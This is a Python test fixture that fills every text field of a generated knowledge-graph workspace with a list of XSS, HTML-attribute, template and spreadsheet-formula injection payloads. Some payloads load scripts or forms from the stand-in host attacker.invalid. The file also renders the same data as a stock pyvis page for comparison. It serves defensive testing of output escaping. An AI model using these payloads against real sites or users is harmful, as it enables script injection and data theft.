r"""A workspace whose every text tries to become code, and stock pyvis's page of the same data.

Goes in: a folder. Comes out: a workspace that is free of errors, so that it is built and drawn. In
each field that holds a text each of :data:`ATTACKS` stands once: labels, names, titles, addresses,
quotations, hedges, translations, reckonings, reasons, and every property that takes text. Whoever
runs one sets ``window.__hacked`` or asks ``attacker.invalid`` for something; both can be seen.
Refuses: nothing.

What cannot stand here, because reading refuses it: NUL and the other control characters but
U+0085, which YAML takes for a line end and JSON's escape keeps; lone surrogates; in a quotation,
Markdown's emphasis and links (``__proto__``, ``[a](b)``), which are taken out of a text before it
is looked up; an address of a place in a public tree; anything but letters, digits and hyphens in
an id. U+202E is let through with a note.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import networkx
import pyvis
from pyvis.network import Network
from tests.telling import Item, Telling, write

from kg.views.known import Known

CASE = "hostile"
FOCUS = "hostile/person-1"
HACKED = "window.__hacked"
HOST = "attacker.invalid"

_RUN = f"{HACKED}=1"
_ASK = f"http://{HOST}"
LONG = f"<script>{_RUN}</script>" + "long words " * 9_200 + f"<img src=x onerror={_RUN}>"
ATTACKS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</ScRiPt ><script src={_ASK}/a.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"href <img src={_ASK}/pixel onerror={_RUN}>",
    f"<svg onload={_RUN}><animate onbegin={_RUN}>",
    f'" onmouseover="{_RUN}" onfocus="{_RUN}" autofocus tabindex="0" x="',
    f"' onmouseover='{_RUN}' onfocus='{_RUN}' autofocus tabindex='0' x='",
    f"javascript:{_RUN}//",
    f"<a href=javascript:{_RUN}>href</a>",
    f"<iframe srcdoc='<script>parent.__hacked=1</script>' src={_ASK}/frame></iframe>",
    f"</style></title></textarea></template><script>{_RUN}</script>",
    f"<style>@import '{_ASK}/a.css'; .mark {{ background: url({_ASK}/b.png) }}</style>",
    f"<link rel=preconnect href={_ASK}><meta http-equiv=refresh content='0;url={_ASK}'>",
    f"<base href={_ASK}/><form action={_ASK}><button autofocus>href</button></form>",
    f"line\u2028{_RUN}//\u2029{_RUN}//",
    f"line\u0085{_RUN}//",
    f"turned\u202e{_RUN}//",
    f"'{_RUN}' \"{_RUN}\" `{_RUN}` « » “ ” „ ‘ ’ ‹ › 「 」",
    f"';{_RUN};'",
    f'";{_RUN};//',
    f"\\';{_RUN};// \\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"{{{{7*7}}}} ${{{_RUN}}} {{% raw %}} {{{{ {_RUN} }}}} #{{7}} <%= 7 %>",
    f"]]> <![CDATA[ <script>{_RUN}</script>",
    f"<!-- <script> --> <script>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;img src=x onerror={_RUN}&#62;",
    f'=HYPERLINK("{_ASK}/cell","href")',
    f"+cmd|'/C calc {_RUN}'!A0",
    "@SUM(1+1)",
    "-2+3",
    "constructor",
    "toString",
    f"[link]: {_ASK}/md !image ({_ASK}/md.png)",
    f"url({_ASK}/c.png);}} * {{ background: url({_ASK}/d.png)",
)
"""Each once in every field; :data:`LONG`, of 100 kB, in one of each sort shown at length."""


def hostile(folder: Path) -> Path:
    """Write the workspace; returns its folder."""
    sources = [_source(number, attack) for number, attack in enumerate(ATTACKS, start=1)]
    sources.append(_long(len(ATTACKS) + 1))
    return write(folder, CASE, _register(), sources, [*map(_ruling, sources)])


def _register() -> Mapping[str, Any]:
    attacks = [*enumerate((*ATTACKS, LONG), start=1)]
    return {
        "organisation": {f"body-{n}": {"en": one, "ru": one} for n, one in attacks},
        "authority": {f"agency-{n}": {"en": one, "ru": one} for n, one in attacks},
        "place": {f"place-{n}": {"en": one, "ru": one} for n, one in attacks},
        "provision": {f"law-{n}": {"en": one, "ru": one} for n, one in attacks},
        "group": {"editors": {"en": ATTACKS[0], "ru": ATTACKS[1]}},
    }


def _source(number: int, attack: str) -> Telling:
    """A source in which one attack stands in every field."""
    source = Telling(f"source-{number}", _head(number, attack))
    for group in (_people(number, attack), _acts(number, attack), _sayings(number, attack)):
        for items in group:
            source.say(
                f"Part {len(source.passages) + 1} tells: {attack} , and so on.",
                *items,
                hedge=attack,
                translation={"en": attack, "ru": attack},
                reviewed=attack,
                **({"from": "reprint"} if len(source.passages) == 1 else {}),
                **({"speaker": f"body-{number}"} if len(source.passages) == 2 else {}),
            )
    return source


def _head(number: int, attack: str) -> dict[str, Any]:
    reprint = {"id": "reprint", "publisher": f"body-{number}", "title": attack}
    return {
        "publisher": f"body-{number}",
        "title": attack,
        "published": {"is": "[2024-01-01..2024-02-01]", "because": attack},
        "language": "en",
        "url": attack,
        "contains": [{**reprint, "published": "2024-01-01", "language": "en"}],
    }


def _people(n: int, attack: str) -> list[list[Item]]:
    """Who and what there is."""
    first = "new person" if n == 1 else "person"
    return [
        [
            {first: "person-1", "name": attack},
            {"new person": f"person-{n + 1}", "name": attack, "residence": f"place-{n}"},
            {"organisation": f"body-{n}", "name": attack, "description": attack},
            {"organisation": f"body-{n}", "identifier": attack},
            {"authority": f"agency-{n}", "name": attack, "kind": ["court", "prosecutor"]},
            {"place": f"place-{n}", "name": attack, "description": attack},
            {"provision": f"law-{n}", "name": attack, "article": attack, "part": attack},
        ],
        [
            {
                "new affiliation": f"affiliation-{n}",
                "holder": "person-1",
                "of": f"body-{n}",
                "position": attack,
                "description": attack,
            },
        ],
        [
            {"new document": f"document-{n}", "name": attack, "author": f"person-{n + 1}"},
            {"document": f"document-{n}", "description": attack, "identifier": attack},
            {"new case": f"case-{n}", "target": "person-1", "name": attack, "ground": attack},
            {"case": f"case-{n}", "description": attack, "identifier": attack},
            {"new count": f"count-{n}", "about": f"case-{n}", "description": attack},
        ],
    ]


def _acts(n: int, attack: str) -> list[list[Item]]:
    """What is done to the person."""
    act: Item = {"agent": f"agency-{n}", "target": "person-1"}
    day = {"is": f"2023-01-{n % 28 + 1:02}", "because": attack}
    words = {"description": attack, "manner": attack, "ground": attack, "time-of-day": attack}
    return [
        [
            {"new search": f"search-{n}", **act, **words, "date": day, "location": f"place-{n}"},
            {"new seizure": f"seizure-{n}", **act, "during": f"search-{n}", "item": attack},
            {"new ill-treatment": f"ill-treatment-{n}", **act, "wording": attack},
            {"new restriction": f"restriction-{n}", **act, "bars": attack, "manner": attack},
            {"new designation": f"designation-{n}", **act, "status": attack, "identifier": attack},
        ],
        [
            {"new verdict": f"verdict-{n}", **act, "wording": attack, "decides": f"charge-{n}"},
            {"verdict": f"verdict-{n}", "imposes": f"penalty-{n}", "outcome": "convicted"},
            {"new penalty": f"penalty-{n}", "target": "person-1", "bars": attack, "item": attack},
            {"new event": f"event-{n}", **act, "name": attack, "description": attack},
        ],
    ]


def _sayings(n: int, attack: str) -> list[list[Item]]:
    """What is said of the person."""
    said: Item = {"agent": f"agency-{n}", "target": "person-1", "wording": attack}
    return [
        [
            {"new charge": f"charge-{n}", **said, "under-law": f"law-{n}", "in-case": f"case-{n}"},
            {"new accusation": f"accusation-{n}", **said, "ground": attack},
            {"new denial": f"denial-{n}", "denies": f"accusation-{n}", "agent": "person-1"}
            | {"wording": attack},
            {"new assessment": f"assessment-{n}", "agent": f"body-{n}", "target": f"case-{n}"}
            | {"wording": attack},
            {"new utterance": f"utterance-{n}", **said, "agent": f"body-{n}", "kind": "demand"},
            {"new recognition": f"recognition-{n}", "agent": f"body-{n}", "target": "person-1"}
            | {"status": attack},
        ],
    ]


def _long(number: int) -> Telling:
    """A source of 100 kB in title, name, quotation, wording."""
    source = Telling(f"source-{number}", {**_head(number, "=1+1"), "title": LONG, "url": LONG})
    source.say(
        f"It tells: {LONG} , and so on.",
        {"new person": f"person-{number + 1}", "name": LONG},
        {
            "new accusation": f"accusation-{number}",
            "agent": f"agency-{number}",
            "target": "person-1",
            "wording": LONG,
        },
    )
    return source


def _ruling(source: Telling) -> Item:
    """Editors affirm something, for a hostile reason."""
    number = source.id.removeprefix("source-")
    reason = LONG if int(number) > len(ATTACKS) else ATTACKS[int(number) - 1]
    thing = f"accusation-{number}"
    passage = next(
        f"{source.id}/{one['id']}"
        for one in source.passages
        if any(thing in item.values() for item in one["says"])
    )
    ruling = {"judgement": f"ruling-{number}", "on": "2024-06-01", "by": "editors"}
    return ruling | {
        "outcome": "accepted",
        "reason": reason,
        "stand": [source.sealed(passage, thing)],
    }


def stock_graph(known: Known) -> networkx.MultiDiGraph[str]:
    """What is known as anybody would put it into networkx: labels, and quotations as titles."""
    graph: networkx.MultiDiGraph[str] = networkx.MultiDiGraph()
    for thing in known.things.values():
        passages = {name for fact in known.of.get(thing.id, ()) for name in fact.passages}
        told = sorted(known.passages[name].quotation for name in passages)
        title = "\n".join([thing.label(), *told])
        graph.add_node(thing.id, label=thing.label(), title=title, group=thing.class_name)
    for fact in known.facts:
        if fact.value.sort == "thing":
            words = [known.passages[one].quotation for one in fact.passages]
            graph.add_edge(fact.thing, fact.value.text, title="\n".join([fact.property, *words]))
    return graph


def stock_page(known: Known, path: Path, *, offline: bool = False) -> Path:
    """Stock pyvis's page of what is known, made as its README makes one; returns its path.

    The heading is the title of the first source. Text runs as HTML in the heading at once, and in
    the title of a node when a reader points at it.
    It loads vis-network and Bootstrap from CDNs. With ``offline``, vis-network is the file of the
    same version in the pyvis package, and Bootstrap, which draws nothing here, is left out.
    """
    heading = next((source.title for source in known.sources.values()), "")
    network = Network(height="750px", width="100%", heading=heading)
    network.from_nx(stock_graph(known))
    page = network.generate_html(notebook=False)
    path.write_text(_local(page) if offline else page, "utf-8")
    return path


def _local(page: str) -> str:
    """The page with its scripts and styles from the pyvis package."""
    lib = Path(pyvis.__file__).parent / "lib"
    page = page.replace('"lib/bindings', f'"{lib.as_uri()}/bindings')
    vis = f'"{(lib / "vis-9.1.2" / "vis-network").as_uri()}'
    page = re.sub(r'"https://cdnjs[^"]*/vis-network\.min\.js"', f'{vis}.min.js"', page)
    page = re.sub(r'"https://cdnjs[^"]*/vis-network\.min\.css"', f'{vis}.css"', page)
    page = re.sub(r'\s(?:integrity|crossorigin|referrerpolicy)="[^"]*"', "", page)
    page = re.sub(r'<script\s[^>]*"https://[^"]*"\s*></script>', "", page)
    return re.sub(r'<link\s[^>]*"https://[^>]*>', "", page)
